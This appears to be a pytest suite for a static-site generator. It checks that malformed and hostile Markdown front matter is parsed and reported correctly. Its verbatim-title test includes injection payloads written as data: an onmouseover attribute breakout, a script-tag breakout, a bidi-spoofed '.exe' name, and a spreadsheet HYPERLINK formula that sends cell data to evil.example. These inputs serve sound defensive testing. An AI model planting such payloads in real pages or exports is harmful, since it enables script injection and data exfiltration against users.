"""Hostile and mistaken files: every sample of fm/ and enc/ ends as its list says, as an article."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest

from sitegen.content.kinds import BY_NAME
from sitegen.content.markup import MarkupOptions
from sitegen.content.markup.body import Body
from sitegen.content.parse import FrontMatter, parse_front_matter, usage_problems
from sitegen.content.source import Source, decode
from sitegen.content.wording import only_words
from sitegen.core.diagnostics import Diagnostic
from sitegen.language.catalogue import texts_of_codes

SAMPLES = Path(__file__).parents[1] / "badinputs"
FOLDERS = ("enc", "fm")


def listed() -> list[tuple[str, str]]:
    with (SAMPLES / "frontmatter.tsv").open(encoding="utf-8", newline="") as lines:
        rows = csv.DictReader(lines, delimiter="\t", quoting=csv.QUOTE_NONE)
        return [(row["file"], row["expected"]) for row in rows]


def read(file: str) -> tuple[FrontMatter | None, tuple[Diagnostic, ...]]:
    text, found = decode(file, (SAMPLES / file).read_bytes())
    if text is None:
        return None, found
    front, more = parse_front_matter(Source(file, text), BY_NAME["article"], "mn")
    used = usage_problems(file, front, Body("", only_words(front.body)), MarkupOptions("mn"))
    return front, (*found, *more, *used)


def hints(file: str, code: str) -> str:
    """The hints of a sample's problems of one kind, in both languages."""
    items = [item for item in read(file)[1] if item.code == code]
    assert items
    return "\n".join(texts_of_codes(lang).hint(item) for lang in ("mn", "en") for item in items)


@pytest.mark.parametrize(("file", "expected"), listed())
def test_every_sample_ends_as_listed(file: str, expected: str) -> None:
    _, found = read(file)
    assert " ".join(sorted({item.code for item in found})) == ("" if expected == "fine" else expected)
    lines = (SAMPLES / file).read_bytes().replace(b"\r\n", b"\n").replace(b"\r", b"\n").count(b"\n") + 1
    assert all(1 <= item.line <= lines and item.column >= 1 for item in found)


@pytest.mark.parametrize(("file", "expected"), listed())
def test_every_problem_has_words_that_can_be_printed(file: str, expected: str) -> None:
    for item in read(file)[1]:
        for lang in ("mn", "en"):
            for words in (texts_of_codes(lang).message(item), texts_of_codes(lang).hint(item)):
                assert words
                assert words.replace("\xa0", " ").isprintable()
                assert not re.search(r"\{[a-z_]+\}", words)


def test_every_sample_is_listed() -> None:
    files = [f"{folder}/{path.name}" for folder in FOLDERS for path in (SAMPLES / folder).iterdir()]
    assert sorted(files) == [file for file, _ in listed()]


@pytest.mark.parametrize(
    ("file", "code", "hint"),
    [
        ("fm/colon.md", "E111", 'title: "Київ: хроніка подій"'),
        ("fm/bracket.md", "E111", 'title: "[Оновлено] Новина"'),
        ("fm/quote-mix.md", "E111", "title: '\"Слово\" і діло'"),
        ("fm/star.md", "E111", 'title: "*важливо*"'),
        ("fm/at.md", "E111", 'title: "@user пише"'),
        ("fm/custom-tag.md", "E103", 'title: "!important Новость"'),
        ("fm/tab-indent.md", "E111", "U+0009"),
        ("fm/nbsp-indent.md", "E106", "U+00A0"),
        ("fm/zwsp-key.md", "E106", "U+200B"),
        ("fm/cyrillic-homoglyph-key.md", "E106", "title"),
        ("fm/date-ddmm.md", "E108", "2024-01-05"),
        ("fm/date-short.md", "E108", "2024-01-05"),
        ("fm/tags-string.md", "E117", "tags: ["),
        ("fm/unterminated.md", "E114", "3"),
        ("enc/cp1251.md", "E113", "windows-1251"),
        ("enc/koi8u.md", "E113", "KOI8-U"),
        ("enc/utf16-bom.md", "E113", "UTF-16"),
        ("enc/utf16-bare.md", "E113", "UTF-16"),
        ("enc/mojibake.md", "W120", "Привет"),
    ],
)
def test_the_hint_names_what_to_write(file: str, code: str, hint: str) -> None:
    assert hint in hints(file, code)


@pytest.mark.parametrize(
    ("file", "title"),
    [
        ("fm/title-number.md", "2024"),
        ("fm/title-date.md", "2024-02-24"),
        ("fm/nel-ls.md", "a b"),
        ("fm/bidi.md", "звіт gpj.exe"),
        ("fm/attr.md", 'x" onmouseover="alert(1)'),
        ("fm/jsonld.md", "</script><script>alert(1)</script>"),
        ("fm/csv-formula.md", '=HYPERLINK("http://evil.example?d="&A1,"x")'),
        ("fm/colon.md", "Київ: хроніка подій"),
        ("fm/slug-empty.md", "🙂"),
    ],
)
def test_a_title_is_read_as_it_was_written(file: str, title: str) -> None:
    front, _ = read(file)
    assert front is not None
    assert front.text.title == title


def test_line_ends_of_windows_and_old_macs_change_nothing() -> None:
    fronts = [read(f"fm/{name}.md")[0] for name in ("crlf", "cr-only")]
    assert fronts[0] == fronts[1]


def test_decomposed_text_is_composed() -> None:
    front, _ = read("enc/nfd-body.md")
    assert front is not None
    assert "\u0306" not in front.text.title + front.body
